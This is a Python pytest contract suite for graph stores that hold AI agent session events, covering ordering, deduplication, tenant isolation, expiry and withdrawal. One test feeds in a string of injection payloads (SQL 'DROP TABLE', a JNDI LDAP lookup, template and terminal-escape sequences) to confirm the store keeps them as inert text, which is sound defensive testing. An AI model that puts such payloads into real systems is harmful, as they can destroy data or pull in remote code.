"""The contract of graph stores as tests, public so that a store kept elsewhere can prove itself.

class TestMyStore(GraphStoreContract):
def make(self, folder: Path) -> GraphStore:
return MyStore(folder / "store")
"""

import random
from collections.abc import Iterator, Sequence
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from graph.errors import UnknownNode, UnstorableEvent
from graph.fold import call_key, fact_key
from graph.parts import Edge, Node
from graph.schema import CARRIED, CONCERNS, SIGNAL, TOOL_CALL, Grade
from graph.store import Counts, Derived, GraphStore, Merged, by_order
from sensor.event import (
    EVENT,
    Event,
    FileOpened,
    ModelResponded,
    ProcessId,
    ProcessStarted,
    PromptSubmitted,
    RequestedCall,
    SessionEnded,
    ToolCalled,
    ToolReturned,
)
from sensor.identity import session_key

FIRST = session_key("record", "1")
SECOND = session_key("record", "2")


def conversation(session: str = FIRST, *, tenant: str = "local", source: str = "trace") -> list[Event]:
    """Return a short run: a prompt, a reply that asks for one call, the call, its result, the end."""
    place = {"session": session, "tenant": tenant, "source": source}
    call = RequestedCall(call_id="c1", name="read_file", arguments={"path": "/srv/notes"})
    return [
        PromptSubmitted(position=0, text="Read my notes.", at_ns=100, **place),
        ModelResponded(position=1, calls=(call,), model="m", at_ns=200, **place),
        ToolCalled(position=1, part=1, call_id="c1", name="read_file", arguments=call.arguments, at_ns=300, **place),
        ToolReturned(position=2, call_id="c1", name="read_file", text="Buy milk.", at_ns=400, **place),
        SessionEnded(position=3, at_ns=500, **place),
    ]


@st.composite
def observations(draw: st.DrawFn) -> list[Event]:
    """Generate observations of a few sessions, tenants and sources that share positions, call ids and processes."""
    return draw(st.lists(_observation(), max_size=20))


@st.composite
def _observation(draw: st.DrawFn) -> Event:
    text = draw(st.text(st.characters(exclude_categories=["Cs"]), max_size=8))
    process = ProcessId(boot_id="b", pid=draw(st.integers(1, 3)), started_ns=1)
    parent = draw(st.sampled_from([None, ProcessId(boot_id="b", pid=1, started_ns=1)]))
    call = draw(st.sampled_from([None, "", "c1", "c2"]))
    event = draw(
        st.sampled_from(
            [
                PromptSubmitted(session="", position=0, source="", text=text),
                ModelResponded(session="", position=0, source="", calls=(RequestedCall(call_id=call, name="t"),)),
                ToolCalled(session="", position=0, source="", call_id=call, name="t", server=text or None),
                ToolReturned(session="", position=0, source="", call_id=call, text=text),
                ProcessStarted(session="", position=0, source="", process=process, parent=parent, executable=text),
                FileOpened(session="", position=0, source="", process=process, path=text),
                SessionEnded(session="", position=0, source=""),
            ]
        )
    )
    place = {
        "session": draw(st.sampled_from([FIRST, SECOND, ""])),
        "tenant": draw(st.sampled_from(["local", "other"])),
        "source": draw(st.sampled_from(["trace", "replay"])),
        "position": draw(st.sampled_from([0, 1, 2, 2**64])),
        "part": draw(st.integers(0, 1)),
        "at_ns": draw(st.sampled_from([None, 1, 2, -(2**70)])),
        "clock": draw(st.sampled_from(["utc", "boot"])),
    }
    placed: Event = EVENT.validate_python(event.model_dump() | place)
    return placed


class GraphStoreContract:
    """One test per promise of `GraphStore`; a subclass says how its store is made."""

    def make(self, folder: Path) -> GraphStore:
        """Return the store that is kept in `folder`: empty at first, what it was when asked again."""
        raise NotImplementedError

    @pytest.fixture
    def store(self, tmp_path: Path) -> Iterator[GraphStore]:
        store = self.make(tmp_path)
        yield store
        store.close()

    def test_an_empty_store_holds_nothing(self, store: GraphStore) -> None:
        assert store.merge([]) == Merged(new=0, repeated=0)
        assert store.sessions() == []
        assert store.events(FIRST) == []
        assert len(store.subgraph(FIRST)) == 0
        assert store.counts().events == store.counts().nodes == store.counts().edges == 0

    def test_events_come_back_in_the_order_of_the_session(self, store: GraphStore) -> None:
        events = conversation()
        store.merge(events[3:])
        store.merge(list(reversed(events[:3])))
        assert store.events(FIRST) == events

    def test_several_sessions_are_read_with_one_question_as_far_as_there_is_room(self, store: GraphStore) -> None:
        first, second = conversation(), conversation(SECOND)
        store.merge([*second, *first])
        both = {FIRST: first, SECOND: second}
        assert store.events_of([FIRST, SECOND]) == both
        assert store.events_of([FIRST, SECOND], tenant="other") in ({}, {FIRST: [], SECOND: []})
        for most in range(len(first) + len(second)):
            some = store.events_of([FIRST, SECOND], most=most)
            assert sum(map(len, some.values())) <= most
            assert all(some[session] == both[session] for session in some)
        assert len(store.events_of([FIRST, SECOND], most=len(first))) == 1

    def test_what_no_session_is_known_for_is_found_by_its_time(self, store: GraphStore) -> None:
        process = ProcessId(boot_id="b", pid=7, started_ns=1)
        opened = [
            FileOpened(session="", source="kernel", position=at_ns, at_ns=at_ns, process=process, path=f"/{at_ns}")
            for at_ns in (100, 200, 300, 2**62)
        ]
        elsewhere = opened[1].model_copy(update={"tenant": "other"})
        store.merge([*reversed(opened), elsewhere, *conversation()])
        assert store.unplaced(100, 200) == opened[:2]
        assert store.unplaced(0, 2**70, limit=3) == opened[:3]
        assert store.unplaced(201, 2**70) == opened[2:]
        assert store.unplaced(0, 99) == []
        assert store.unplaced(0, 2**62, tenant="other") == [elsewhere]

    def test_what_no_session_is_known_for_expires_by_its_time(self, store: GraphStore) -> None:
        first, second = (ProcessId(boot_id="b", pid=pid, started_ns=1) for pid in (7, 8))
        day = 86_400 * 10**9
        acts = (
            (0, first, "/n"),
            (20_000, first, "/a"),
            (20_001, second, "/b"),
            (20_002, first, "/c"),
            (20_003, first, "/a"),
        )
        opened = [
            FileOpened(session="", source="kernel", position=days * day, at_ns=days * day, process=who, path=path)
            for days, who, path in acts
        ]
        elsewhere = opened[1].model_copy(update={"tenant": "other"})
        store.merge([*opened, elsewhere, *conversation()])
        beside = store.subgraph(FIRST)
        assert len(store.subgraph("")) == 6

        assert store.expire(20_002 * day) == 2

        # The first has no time, but a number.
        assert store.unplaced(0, 2**62) == [opened[0], *opened[3:]]
        left = store.subgraph("")
        assert {edge.position for edge in left.edges()} == {0, 20_002 * day, 20_003 * day}
        assert len(left) == 4  # one process, three files
        assert store.unplaced(0, 2**62, tenant="other") == [elsewhere]
        assert len(store.subgraph("", tenant="other")) == 2
        assert store.subgraph(FIRST) == beside
        assert store.expire(20_002 * day) == 0
        assert store.counts().events == 3 + 1 + len(conversation())
        store.merge(opened)
        assert len(store.subgraph("")) == 6

    def test_merging_the_same_batch_twice_changes_nothing(self, store: GraphStore) -> None:
        events = conversation()
        assert store.merge(events) == Merged(new=5, repeated=0)
        before = (store.counts(), store.sessions(), store.subgraph(FIRST), store.events(FIRST))
        assert store.merge(events) == Merged(new=0, repeated=5)
        assert (store.counts(), store.sessions(), store.subgraph(FIRST), store.events(FIRST)) == before

    def test_an_event_that_is_twice_in_a_batch_is_kept_once(self, store: GraphStore) -> None:
        events = conversation()
        assert store.merge([*events, *events]) == Merged(new=5, repeated=5)
        assert store.counts().events == 5

    def test_a_batch_that_repeats_some_events_counts_the_others(self, store: GraphStore) -> None:
        events = conversation()
        store.merge(events[:2])
        assert store.merge(events) == Merged(new=3, repeated=2)
        assert store.sessions()[0].events == 5

    # Each store's class inherits this test, which is what the health check warns of; the examples fit all of them.
    @settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.differing_executors])
    @given(events=observations(), seed=st.integers(0, 2**32))
    def test_neither_order_of_arrival_nor_repetition_changes_the_graph(self, events: list[Event], seed: int) -> None:
        shuffled = [*events, *events]
        random.Random(seed).shuffle(shuffled)
        cut = len(shuffled) // 3
        assert self._content([events]) == self._content([shuffled[:cut], shuffled[cut:]])

    def test_two_sources_that_saw_one_fact_make_one_node(self, store: GraphStore) -> None:
        store.merge(conversation(source="trace"))
        once = store.subgraph(FIRST)
        store.merge(conversation(source="replay"))
        assert store.subgraph(FIRST) == once
        assert store.sessions()[0].sources == ("replay", "trace")
        assert store.sessions()[0].events == 10

    def test_a_session_is_listed_with_its_times_sources_and_end(self, store: GraphStore) -> None:
        store.merge(conversation()[:2])
        first = store.sessions()[0]
        assert (first.tenant, first.key, first.events, first.sources) == ("local", FIRST, 2, ("trace",))
        assert (first.first_ns, first.last_ns, first.ended) == (100, 200, False)
        store.merge(conversation())
        assert (store.sessions()[0].last_ns, store.sessions()[0].ended) == (500, True)

    def test_sessions_are_listed_by_time_and_those_without_one_come_last(self, store: GraphStore) -> None:
        store.merge([PromptSubmitted(session=FIRST, position=0, source="trace", text="When?")])
        store.merge(conversation(SECOND))
        assert [row.key for row in store.sessions()] == [SECOND, FIRST]

    def test_a_time_of_another_clock_is_no_time_of_the_session(self, store: GraphStore) -> None:
        store.merge([SessionEnded(session=FIRST, position=0, source="kernel", at_ns=5, clock="boot")])
        assert store.sessions()[0].first_ns is None

    def test_what_no_session_is_known_for_is_kept_and_not_listed(self, store: GraphStore) -> None:
        process = ProcessId(boot_id="b", pid=1, started_ns=1)
        started = ProcessStarted(session="", position=7, source="kernel", process=process, executable="/bin/sh")
        store.merge([started])
        assert store.events("") == [started]
        assert store.sessions() == []
        assert store.counts().sessions == 0

    def test_sessions_of_different_tenants_never_meet(self, store: GraphStore) -> None:
        store.merge(conversation(tenant="a"))
        store.merge(conversation(tenant="b")[:1])
        assert len(store.events(FIRST, tenant="a")) == 5
        assert len(store.events(FIRST, tenant="b")) == 1
        assert store.events(FIRST) == []
        assert len(store.subgraph(FIRST, tenant="b").nodes("Decision")) == 0

    def test_equal_conversations_of_two_tenants_are_as_each_would_be_alone(self, tmp_path: Path) -> None:
        a, b = conversation(tenant="a"), conversation(tenant="b")
        b[0] = b[0].model_copy(update={"text": "Read my notes, all of them."})
        alone = self.make(tmp_path / "alone")
        alone.merge(a)
        expected = alone.subgraph(FIRST, tenant="a")
        alone.close()
        store = self.make(tmp_path / "both")
        store.merge([*a, *b])

        assert store.subgraph(FIRST, tenant="a") == expected
        assert not {node.key for node in store.subgraph(FIRST, tenant="b").nodes()} & {n.key for n in expected.nodes()}
        assert store.withdraw(FIRST, {a[0].id}, tenant="a") == 1
        assert len(store.subgraph(FIRST, tenant="b").nodes("Prompt")) == 1
        store.close()

    def test_a_derived_edge_has_the_earliest_of_its_times(self, store: GraphStore) -> None:
        store.merge(conversation())
        for at_ns in (500, 300, 900, None):
            store.add_edges([Derived(FIRST, [_carried(conversation(), Grade.E2, at_ns=at_ns)])])
        assert [edge.at_ns for edge in store.subgraph(FIRST).edges(CARRIED.label)] == [300]

    def test_a_batch_that_fails_leaves_nothing_behind(self, store: GraphStore) -> None:
        nothing: Any = object()
        broken = PromptSubmitted.model_construct(session=SECOND, position=0, source="trace", text=nothing)
        with pytest.raises(UnstorableEvent, match=SECOND):
            store.merge([*conversation(), broken])
        assert store.counts().events == store.counts().nodes == store.counts().sessions == 0
        assert store.merge(conversation(SECOND)) == Merged(new=5, repeated=0)
        assert store.events(SECOND) == conversation(SECOND)

    def test_hostile_text_is_stored_and_never_interpreted(self, store: GraphStore) -> None:
        text = "'); DROP TABLE event; --\x00\x1b[2J\u202e${jndi:ldap://x}{{7*7}}"
        hostile = ToolCalled(session=text, tenant=text, position=0, source=text, call_id=text, name=text)
        store.merge([hostile])
        assert store.events(text, tenant=text) == [hostile]
        assert store.subgraph(text, tenant=text).nodes("Tool")[0].get("name") == text

    def test_numbers_of_any_size_are_stored(self, store: GraphStore) -> None:
        huge = PromptSubmitted(session=FIRST, position=2**80, part=2**80, source="trace", text="", at_ns=-(2**80))
        store.merge([huge])
        assert store.events(FIRST) == [huge]

    def test_the_result_of_a_call_hangs_on_the_call_that_was_requested(self, store: GraphStore) -> None:
        store.merge(conversation())
        graph = store.subgraph(FIRST)
        decision, result = graph.nodes("Decision")[0].key, graph.nodes("Content")[0].key
        assert [edge.label for edge in graph.path(decision, result)] == ["REQUESTED", "RETURNED"]

    def test_derived_edges_keep_their_grade_and_time(self, store: GraphStore) -> None:
        store.merge(conversation())
        edge = _carried(conversation(), Grade.E2, at_ns=300)
        assert store.add_edges([Derived(FIRST, [edge, edge])]) == 1
        assert store.add_edges([Derived(FIRST, [edge])]) == 0
        assert store.subgraph(FIRST).edges(CARRIED.label) == (edge,)

    def test_derived_edges_may_bring_nodes_that_only_they_need(self, store: GraphStore) -> None:
        events = conversation()
        store.merge(events)
        signal = Node(SIGNAL.label, "s" * 32, (("name", "encoded payload"),))
        call = store.subgraph(FIRST).nodes(TOOL_CALL.label)[0]
        edge = Edge(CONCERNS.label, signal.key, call.key, 1, 1, events[2].entity)
        store.add_edges([Derived(FIRST, [edge], [signal])])
        assert store.subgraph(FIRST).node(signal.key) == signal

    def test_what_is_withdrawn_leaves_no_trace(self, tmp_path: Path) -> None:
        told, other = conversation(), conversation(source="otlp")[1:3]
        fresh = self.make(tmp_path / "fresh")
        fresh.merge([*told, *conversation(SECOND)])
        expected = _state(fresh)
        fresh.close()
        store = self.make(tmp_path / "other")
        store.merge([*told, *other, *conversation(SECOND)])

        assert store.withdraw(FIRST, {event.id for event in other} | {"never seen"}) == len(other)

        assert _state(store) == expected
        assert store.withdraw(FIRST, {event.id for event in other}) == 0
        store.close()

    def test_derived_edges_of_a_session_go_when_something_of_it_is_withdrawn(self, store: GraphStore) -> None:
        told = conversation()
        store.merge(told)
        call = fact_key(told[2])
        signal = Node(SIGNAL.label, "s")
        store.add_edges([Derived(FIRST, [Edge(CONCERNS.label, signal.key, call, 2, 0, told[2].entity)], [signal])])

        store.withdraw(FIRST, {told[4].id})

        assert store.subgraph(FIRST).edges(CONCERNS.label) == ()
        assert not store.sessions()[0].ended

    def test_a_session_of_which_all_is_withdrawn_is_gone(self, store: GraphStore) -> None:
        store.merge(conversation())

        store.withdraw(FIRST, {event.id for event in conversation()})

        assert store.sessions() == []
        assert store.counts() == Counts(0, 0, 0, 0)
        store.merge(conversation())
        assert len(store.events(FIRST)) == len(conversation())

    def test_a_derived_edge_to_a_node_that_the_session_does_not_have_is_refused(self, store: GraphStore) -> None:
        store.merge(conversation())
        before = store.subgraph(FIRST)
        edge = _carried(conversation(), Grade.E2)
        with pytest.raises(UnknownNode, match=SECOND):
            store.add_edges([Derived(SECOND, [edge])])
        with pytest.raises(UnknownNode, match="elsewhere"):
            store.add_edges([Derived(FIRST, [edge, edge._replace(target="elsewhere")])])
        assert store.subgraph(FIRST) == before
        assert store.counts().sessions == 1

    def _content(self, batches: Sequence[Sequence[Event]]) -> object:
        with TemporaryDirectory() as folder:
            store = self.make(Path(folder))
            for batch in batches:
                store.merge(batch)
            keys = [(tenant, key) for tenant in ("local", "other") for key in (FIRST, SECOND, "")]
            graphs = [store.subgraph(key, tenant=tenant) for tenant, key in keys]
            events = [store.events(key, tenant=tenant) for tenant, key in keys]
            everything = (store.counts(), store.sessions(), graphs, events)
            store.close()
        assert events == [sorted(session, key=by_order) for session in events]
        return everything


def _carried(events: Sequence[Event], grade: Grade, at_ns: int | None = None) -> Edge:
    prompt, call = events[0], events[2]
    assert prompt.kind == "prompt_submitted"
    target = call_key(call.tenant, call.session, "c1")
    assert fact_key(call) == target
    return Edge(CARRIED.label, fact_key(prompt), target, call.position, call.part, call.entity, at_ns, grade)


__all__ = ["FIRST", "SECOND", "GraphStoreContract", "conversation", "observations"]


def _state(store: GraphStore) -> tuple[object, ...]:
    """Return all that a store says."""
    sessions = store.sessions()
    held = [(store.events(row.key, tenant=row.tenant), store.subgraph(row.key, tenant=row.tenant)) for row in sessions]
    return (sessions, store.counts(), held)
